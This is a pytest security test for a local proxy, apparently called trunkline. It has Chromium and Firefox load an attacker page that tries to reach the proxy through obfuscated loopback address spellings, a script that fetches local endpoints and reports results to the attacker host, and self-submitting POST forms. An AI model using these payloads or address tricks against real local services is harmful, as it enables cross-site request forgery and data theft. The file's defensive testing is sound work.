"""A page of another site in real browsers: it navigates to trunkline with every spelling of a local address, loads a page of its
own through /https://…, and submits forms. It must not run scripts in trunkline's origin, read a page, execute a verb or send a
request to the exchange."""
import contextlib
import http.server
import threading
import urllib.parse

import pytest

from lib import browser, namespace
from lib.behaviour import reply
from lib.daemon import sanitized, upstream
from lib.wire import eventually

SITE, LAN, PORT = '203.0.113.10', '10.9.8.7', 8642     # in a separate network namespace, where every port is free
OWN = ['127.0.0.1', '127.0.0.9', '[::1]', 'localhost', 'ex.localhost', LAN, 'trunkbox.localhost']
OTHERS = ['[::ffff:127.0.0.1]', '[::ffff:7f00:1]', f'[::ffff:{LAN}]', '0.0.0.0', '[::]', '0', '127.1', '0x7f.1', '2130706433', '017700000001']
REPORTING = '''<!doctype html><script>
const tell = s => fetch('http://%s/report?' + encodeURIComponent(location.host + ' ' + s), {mode: 'no-cors'});
(async () => {
  await tell('ran');
  for (const [method, path] of [['GET', '/stats'], ['GET', '/ex/quote'], ['POST', '/ex/order'], ['POST', '/upstreams/ex/pause'], ['POST', '/upstreams/drain']])
    try { const r = await fetch(path, {method}); await tell(method + ' ' + path + ' ' + r.status + ' ' + (await r.text()).length) } catch (e) { }
  await tell('done');
})();</script><p>here</p>''' % SITE
NAVIGATES = '<!doctype html><script>location.href = %r</script>'
POSTS = '<!doctype html><form method=post enctype=text/plain action=%r><input name=a value=b></form><script>document.forms[0].submit()</script>'
FRAMES = '<!doctype html><iframe src=%r></iframe>'

pytestmark = [pytest.mark.limit(240), pytest.mark.skipif(sanitized(), reason='once is enough: with the plain build'),
              pytest.mark.skipif(namespace.MISSING, reason='a network namespace needs root')]
BROWSERS = [pytest.param(b, marks=pytest.mark.skipif(bool(b.missing()), reason=f'no {" nor ".join(b.missing())}'))
            for b in (browser.Chromium, browser.Firefox)]


class Site:
    """The attacker's site: pages by path, and the requests it received."""

    def __init__(self):
        self.pages, self.seen = {}, []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                site.seen.append(urllib.parse.unquote(self.path))
                body = site.pages.get(self.path.partition('?')[0], '').encode()
                self.send_response(200)
                self.send_header('Content-Type', 'text/html')
                self.send_header('Access-Control-Allow-Origin', '*')
                self.send_header('Content-Length', str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_):
                pass
        self.server = http.server.ThreadingHTTPServer((SITE, 80), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def reports(self):
        return [s[8:] for s in self.seen if s.startswith('/report?')]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def visit(b, site, name, page):
    """Opens a page of the site and waits until its navigation has finished. A frame may stay empty forever, because Firefox asks
    its user first."""
    site.pages[f'/{name}'] = page
    b.open(f'http://{SITE}/{name}')
    assert f'/{name}' in site.seen
    with contextlib.suppress(AssertionError) if 'iframe' in page else contextlib.nullcontext():
        eventually(lambda: 'iframe' in page or name not in b.url(), 20)
        eventually(lambda: b.run('return document.readyState == "complete" || document.documentURI.startsWith("about:")'), 2 if 'iframe' in page else 20)


def attack(Browser, folder, daemon, origins):
    site = Site()
    ex, evil = origins(), origins()
    evil.default = reply(body=REPORTING.encode(), headers=[('Content-Type', 'text/html')])
    d = daemon(upstream('ex', ex), upstream('evil', evil, host='evil.test', tls_name='exchange.test'), listen=[f'0.0.0.0:{PORT}', f'[::]:{PORT}'],
               allow_clients=[f'{LAN}/32', f'{SITE}/32'], allow_hosts=['trunkbox.localhost'])
    with Browser(folder) as b:
        site.pages['/control'] = REPORTING
        b.open(f'http://{SITE}/control')
        eventually(lambda: any(r.endswith(' done') for r in site.reports()), 20)
        before, seen = len(site.reports()), len(site.seen)
        for n, host in enumerate(OWN + OTHERS):
            at = f'http://{host}:{PORT}'
            for kind, page in {'path': NAVIGATES % f'{at}/https://evil.test/own.html', 'name': NAVIGATES % f'{at}/evil/own.html',
                               'frame': FRAMES % f'{at}/https://evil.test/own.html', 'read': NAVIGATES % f'{at}/stats',
                               'verb': POSTS % f'{at}/upstreams/ex/pause', 'order': POSTS % f'{at}/ex/order'}.items():
                visit(b, site, f'{kind}-{n}', page)
        assert len(site.seen) >= seen + 6 * len(OWN + OTHERS)
        ran, state = site.reports()[before:], d.upstream('ex')['state']
        orders = [p for p in ex.paths() if p != '/favicon.ico']     # the browser's own request for any page at ex.localhost
    assert not ran, f'ran as a page of trunkline: {ran}'
    assert state == 'up' and not orders, f'the upstream is {state}; the exchange got {orders}'
    assert any(evil.requests), 'the control: some of the pages were relayed'
    site.close()


@pytest.mark.slow
@pytest.mark.parametrize('Browser', BROWSERS)
def test_a_page_of_another_site_gets_nowhere(Browser, daemon, origins, tmp_path):
    namespace.inside(lambda: attack(Browser, tmp_path / 'profile', daemon, origins), f'{SITE}/32', f'{LAN}/32')
